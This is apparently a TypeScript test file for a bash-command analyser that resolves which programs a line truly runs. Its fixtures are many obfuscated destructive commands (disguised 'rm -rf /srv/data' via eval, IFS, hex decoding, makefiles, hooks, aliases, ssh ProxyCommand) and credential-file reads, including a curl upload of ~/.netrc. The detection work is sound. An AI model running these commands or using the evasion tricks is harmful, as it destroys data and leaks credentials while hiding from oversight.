import { describe, expect, test } from '@jest/globals';
import { analyse } from '../../src/shell/analyse.ts';

/** The commands that a line runs, each as its words; bodies of functions and aliases included. */
const runs = (command: string): readonly string[] => {
  const { invocations, functions } = analyse(command, 'bash');
  return [...invocations, ...functions.flatMap((body) => (body.unrated ? [] : body.invocations))].map(
    ({ tool, args }) => [tool, ...args.map(({ text }) => text)].join(' '),
  );
};

const DELETES = 'rm -rf /srv/data';

describe('the program behind a name is found', () => {
  test.each([
    ['a default in eval', 'eval "${none:-rm -rf /srv/data}"'],
    ['a shell that reads a substitution', "sh < <(echo 'rm -rf /srv/data')"],
    ['$0, the shell itself', "echo 'rm -rf /srv/data' | $0"],
    ['$0, an argument of sh -c', `sh -c '"$0" -rf /srv/data' rm`],
    ['a variable that is not set', 'r$none""m -rf /srv/data'],
    ['a pattern', '/bin/r? -rf /srv/data'],
    ['a pattern for the directory too', '/???/r[m] -rf /srv/data'],
    ['another separator', 'IFS=,; x=rm,-rf,/srv/data; $x'],
    ['a recipe on standard input', String.raw`make -f - <<< $'all:\n\trm -rf /srv/data'`],
    ['a recipe after its prerequisites', `make -f - <<< 'all: x ; rm -rf /srv/data'`],
    ['a makefile of this line', `printf 'all:\\n\\t@rm -rf /srv/data\\n' > m.mk; make -f m.mk all`],
    ['a recipe in an option', `make -s --eval=$'x:\\n\\t-rm -rf /srv/data'`],
    ['hexadecimal digits of a substitution', '$(xxd -r -ps <(echo 726d202d7266202f7372762f64617461))'],
    ['a pattern with a star', '/usr/bin/r*m -rf /srv/data'],
    ['a call of npx', "npx -c 'rm -rf /srv/data'"],
    ['what entr starts', "ls | entr -s 'rm -rf /srv/data'"],
    ['what PowerShell starts', "pwsh -c 'rm -rf /srv/data'"],
    ['another makefile of the input', `make -f/dev/stdin <<< 'a: ; rm -rf /srv/data'`],
    ['a command on a fleet', "pssh -i 'rm -rf /srv/data'"],
    ['a hook of certbot', "certbot renew --post-hook 'rm -rf /srv/data'"],
    ['a default of a variable that was unset', 'none=x; unset none; eval "${none-rm -rf /srv/data}"'],
    ['a default that is also assigned', 'unset d; : "${d:=/srv/data}"; rm -rf "$d"'],
    ['a nameref', 'real=rm; declare -n tool=real; "$tool" -rf /srv/data'],
    ['a variable that is lower-cased', 'typeset -l tool=RM; $tool -rf /srv/data'],
    ['a variable for one command', "tool=rm sh -c '$tool -rf /srv/data'"],
    ['a variable through env', 'env tool=rm bash -c \'"$tool" -rf /srv/data\''],
    ['hash -p', 'hash -p /usr/bin/rm ls; ls -rf /srv/data'],
    ['hash -p over a builtin that is switched off', 'hash -p /bin/rm echo; enable -n echo; echo -rf /srv/data'],
    ['an alias over a known program', "alias ls='rm -rf /srv/data'"],
    ['an alias that a later shell reads', `echo "alias ls='rm -rf /srv/data'" >> ~/.bashrc`],
    ['a profile', `echo 'rm -rf /srv/data' | tee -a ~/.zshrc`],
    ['a git hook', `printf 'rm -rf /srv/data\\n' > .git/hooks/post-commit`],
    ['a here-string on a descriptor', `exec 3<<<'rm -rf /srv/data'; bash <&3`],
    ['a descriptor as a path', `exec 5<<<'rm -rf /srv/data'; sh /dev/fd/5`],
    ['a descriptor of the same command', `bash 4<<<'rm -rf /srv/data' /proc/self/fd/4`],
    ['a descriptor with a name', `exec {in}<<<'rm -rf /srv/data'; bash <&$in`],
    ['read -u', `exec 3<<<'rm -rf /srv/data'; read -r -u 3 line; eval "$line"`],
    ['a variable that a prompt runs', `export PROMPT_COMMAND='rm -rf /srv/data'`],
    ['a variable that git runs', `export GIT_SSH_COMMAND='rm -rf /srv/data'; git fetch`],
    ['settings of git in variables', `GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf /srv/data' git x`],
    ['a proxy command', "ssh -oProxyCommand='rm -rf /srv/data' host"],
    ['a proxy command of the transport', `rsync -e "ssh -o ProxyCommand='rm -rf /srv/data'" a host:b`],
  ])('%s', (_name, command) => {
    expect(runs(command)).toContain(DELETES);
  });

  test.each([
    ['a name that hash -p does not change', 'hash -p /bin/rm echo; echo -rf /srv/data'],
    ['an alias that is removed', "alias x='rm -rf /srv/data'; unalias x; x"],
    ['a default of a set variable', 'd=/tmp/x; rm -rf "${d:-/srv/data}"'],
    ['a variable that only functions had', 'f() { :; }; unset -f f'],
    ['a pattern of an unknown directory', '/srv/r? -rf /srv/data'],
    ['a pattern without an end', '/bin/r[ -rf /srv/data'],
    ['a text of a makefile that is no recipe', `make -f - <<< 'x = rm -rf /srv/data'`],
    ['a pattern outside the directories of programs', './r? -rf /srv/data'],
    ['an unknown name with a variable', 'tool$none -rf /srv/data'],
    ['another separator in quotes', 'IFS=,; x=rm,-rf,/srv/data; "$x"'],
    ['a makefile that is a file', 'make -f rm.mk rm -rf /srv/data'],
    ['a text file', `echo 'rm -rf /srv/data' > notes.txt`],
    ['the value of a variable of one command', `tool=rm true; sh -c '$tool -rf /srv/data'`],
  ])('not by %s', (_name, command) => {
    expect(runs(command)).not.toContain(DELETES);
  });
});

test('options in variables are options of the program', () => {
  expect(runs("TAR_OPTIONS='--file=host:/x' tar --create src")).toEqual(['tar --file=host:/x --create src']);
  expect(runs("export TAR_OPTIONS='--file=host:/x'; TAR_OPTIONS=; tar -c src")).toContain('tar --file=host:/x -c src');
  expect(runs('TAPE=host:/x tar -c src')).toEqual(['tar -f host:/x -c src']);
  expect(runs('TAPE=host:/x tar -cf out.tar src')).toEqual(['tar -cf out.tar src']);
  expect(runs('LESS=-R cat src')).toEqual(['cat src']);
});

test('$(<file) reads the file, and a redirection alone does not', () => {
  expect(runs('echo "$(<notes)"')).toContain('cat notes');
  expect(runs('< notes')).toEqual([]);
});

test('a loop that nothing ends is marked', () => {
  const isEndless = (command: string): boolean | undefined =>
    analyse(command, 'bash').invocations.find(({ tool }) => tool === 'work')?.endless;
  for (const command of [
    'while true; do work; done',
    'while :; do work; done',
    'while /bin/true; do work; done',
    'while [ 1 ]; do work; done',
    'while [[ 1 ]]; do work; done',
    'while ((1)); do work; done',
    'until false; do work; done',
    'for ((;;)); do work; done',
  ])
    expect([command, isEndless(command)]).toEqual([command, true]);
  for (const command of [
    'while read -r x; do work; done',
    'until true; do work; done',
    'while false; do work; done',
    'for x in a b; do work; done',
    'for ((i = 0; i < 9; i++)); do work; done',
    'work',
  ])
    expect([command, isEndless(command)]).toEqual([command, false]);
});

test('what is written to a coprocess is its input', () => {
  const { invocations } = analyse('coproc { sh; }; echo x >&"${COPROC[1]}"', 'bash');
  const [target] = invocations.find(({ tool }) => tool === 'echo')?.redirections ?? [];
  expect(target?.target.parts).toEqual([expect.objectContaining({ kind: 'process', direction: 'out' })]);
});

describe('a value that begins with a home directory', () => {
  test.each([
    ['f=~/.netrc; cat "$f"', 'cat ~/.netrc'],
    ['f=$HOME/.netrc; cat $f', 'cat $HOME/.netrc'],
    ['f=~/.netrc; curl -F "x=@$f" h', 'curl -F x=@~/.netrc h'],
    ['for f in ~/.netrc ~/.pgpass; do cat "$f"; done', 'cat ~/.pgpass'],
    ['declare -n g=f; f=~/.netrc; cat "$g"', 'cat ~/.netrc'],
  ])('is followed: %s', (command, expected) => {
    expect(runs(command)).toContain(expected);
  });

  test.each([
    'f=~/.netrc; f=$(date); cat "$f"',
    'f=~/.netrc; read -r f; cat "$f"',
    'f=~/.netrc; f=other; cat "$f"',
    'f=~/$(date); cat "$f"',
  ])('is not taken for a later or an unknown one: %s', (command) => {
    expect(runs(command).join('\n')).not.toContain('cat ~/');
  });
});
